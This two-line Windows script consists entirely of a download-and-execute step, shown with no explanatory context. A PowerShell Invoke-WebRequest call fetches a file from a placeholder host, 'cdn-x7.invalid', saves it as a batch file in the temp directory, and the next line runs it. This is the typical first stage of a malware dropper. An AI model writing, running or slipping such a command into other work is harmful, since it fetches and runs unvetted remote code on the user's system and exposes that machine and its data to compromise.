powershell -c "iwr https://cdn-x7.invalid/a -OutFile $env:TEMP\a.bat"
call %TEMP%\a.bat
